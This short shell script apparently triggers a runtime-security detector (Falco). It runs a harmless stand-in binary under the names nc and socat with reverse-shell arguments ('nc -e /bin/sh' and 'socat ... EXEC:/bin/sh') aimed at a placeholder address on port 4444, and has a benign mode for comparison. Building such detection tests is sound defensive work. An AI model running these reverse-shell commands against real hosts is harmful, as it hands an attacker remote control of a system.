#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# shows: reverse shell | nc and socat are told to give somebody a shell
# beside: nc is told to give nobody anything
here=$(dirname "$0")
dir=$(mktemp -d /tmp/falco-run-sample-XXXXXX)
trap 'rm -rf "$dir"' EXIT

if [ "${1-}" != benign ]; then
	for name in nc socat; do
		ln -s "$here/stand_in" "$dir/$name"
	done
	"$dir/nc" -e /bin/sh 192.0.2.1 4444
	"$dir/socat" TCP:192.0.2.1:4444 EXEC:/bin/sh
	echo "remote_shell: stand-ins ran"
else
	"$here/stand_in" -e /bin/sh
	echo "remote_shell: nothing"
fi
